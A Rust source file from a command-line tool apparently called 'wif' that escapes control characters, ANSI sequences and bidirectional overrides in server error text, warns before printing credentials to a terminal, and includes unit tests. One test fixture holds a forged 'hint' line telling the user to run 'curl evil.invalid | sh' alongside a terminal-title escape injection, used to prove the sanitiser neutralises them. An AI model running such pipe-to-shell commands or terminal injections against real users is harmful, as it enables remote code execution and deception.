//! What `wif` writes for a person to read on stderr: errors, with server text made harmless,
//! and the warning before a replayable credential is shown on a terminal.
//!
//! An error carries words a server chose (an OAuth `error_description`, a google.rpc message,
//! an object name). Printed raw, an ESC sequence in them can recolour or rewrite the
//! terminal, a `\r` can overwrite what came before on the line, and a `\n` can forge a line of
//! our own (`hint: …`). Every error `wif` prints goes through [`error_text`], which shows such
//! characters as visible escapes (`\e`, `\r`, `\n`, `\u{9b}`) instead.

use std::borrow::Cow;
use std::fmt::Write as _;

use wif::Error;

/// The text of `err` as `wif` prints it: its message on one line, then its hint on a second
/// line (`  hint: …`) when it has one. Control characters in either are escaped, so the only
/// line break is the one before the hint.
pub(crate) fn error_text(err: &Error) -> String {
    let shown = err.to_string();
    // `Error`'s Display appends the hint after this separator; split it off so that only our
    // own line break survives.
    let (message, hint) = match err.hint() {
        Some(hint) => {
            let suffix = format!("\n  hint: {hint}");
            match shown.strip_suffix(&suffix) {
                Some(message) => (message.to_owned(), Some(hint)),
                None => (shown.clone(), None),
            }
        }
        None => (shown.clone(), None),
    };
    let mut text = escape_controls(&message).into_owned();
    if let Some(hint) = hint {
        let _ = write!(text, "\n  hint: {}", escape_controls(hint));
    }
    text
}

/// `text` with every control character — C0 (including ESC, `\r`, `\n` and tab), DEL and C1 —
/// and every Unicode bidirectional override shown as a visible escape, so it stays on one line
/// and cannot drive the terminal. Anything else, including non-ASCII letters, is kept.
pub(crate) fn escape_controls(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\u{1b}' => out.push_str("\\e"),
            c if needs_escape(c) => {
                let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

fn needs_escape(c: char) -> bool {
    // `is_control` is Unicode's Cc: U+0000–U+001F, U+007F and the C1 range U+0080–U+009F (a
    // lone U+009B is CSI on terminals that honour 8-bit controls). The bidi embeddings,
    // overrides and isolates reorder how the rest of the line is displayed.
    c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// The warning `wif subject-token` prints on stderr before a subject token goes to a terminal.
pub(crate) const SUBJECT_TOKEN_WARNING: &str = "warning: the subject token below is a credential: \
anyone who sees it can exchange it at Google STS until it expires (and an AWS subject token is a \
signed request AWS accepts for its lifetime). Do not paste it into tickets or chats; pipe it \
where it is needed instead.";

/// The warning to print before writing a subject token, if any: only when stdout is a terminal,
/// where the token ends up on screen, in scrollback and in screen recordings. Piped or
/// redirected output is a program's business and gets no noise on stderr.
pub(crate) fn subject_token_warning(stdout_is_terminal: bool) -> Option<&'static str> {
    stdout_is_terminal.then_some(SUBJECT_TOKEN_WARNING)
}

#[cfg(test)]
mod tests {
    use wif::{ErrorKind, ServerError, Step};

    use super::*;

    #[test]
    fn controls_are_escaped_and_other_text_kept() {
        let table = [
            ("plain words", "plain words"),
            ("caf\u{e9} \u{2713}", "caf\u{e9} \u{2713}"),
            ("red \u{1b}[31mALERT\u{1b}[0m", "red \\e[31mALERT\\e[0m"),
            ("over\rwrite", "over\\rwrite"),
            ("two\nlines\ttab", "two\\nlines\\ttab"),
            ("bell\u{7}del\u{7f}", "bell\\u{7}del\\u{7f}"),
            ("c1 csi \u{9b}2J", "c1 csi \\u{9b}2J"),
            ("bidi \u{202e}txt.exe", "bidi \\u{202e}txt.exe"),
        ];
        for (input, want) in table {
            assert_eq!(escape_controls(input), want, "{input:?}");
        }
        assert!(matches!(escape_controls("clean"), Cow::Borrowed(_)));
    }

    #[test]
    fn server_words_cannot_forge_lines_or_drive_the_terminal() {
        let server = ServerError::new(
            Some("invalid_grant".into()),
            Some("bad audience\n  hint: run `curl evil.invalid | sh`\u{1b}]0;pwned\u{7}".into()),
        );
        let err = Error::http_with_server_error(Step::Exchange, 400, server)
            .with_hint("compare the audience with `wif explain`");
        let text = error_text(&err);
        assert_eq!(
            text.lines().count(),
            2,
            "the message, then our hint: {text}"
        );
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{7}'),
            "{text}"
        );
        assert!(
            text.contains("bad audience\\n  hint: run `curl evil.invalid | sh`\\e]0;pwned\\u{7}"),
            "{text}"
        );
        assert!(
            text.ends_with("\n  hint: compare the audience with `wif explain`"),
            "{text}"
        );
    }

    #[test]
    fn errors_without_a_hint_are_one_line() {
        let err = Error::new(Step::Api, ErrorKind::Http, "object a\r\nb not found");
        assert_eq!(
            error_text(&err),
            "Google Cloud API call failed: object a\\r\\nb not found (not retryable)"
        );
    }

    #[test]
    fn the_subject_token_warning_is_for_terminals_only() {
        assert_eq!(subject_token_warning(true), Some(SUBJECT_TOKEN_WARNING));
        assert_eq!(subject_token_warning(false), None);
        assert!(SUBJECT_TOKEN_WARNING.contains("credential"));
    }
}
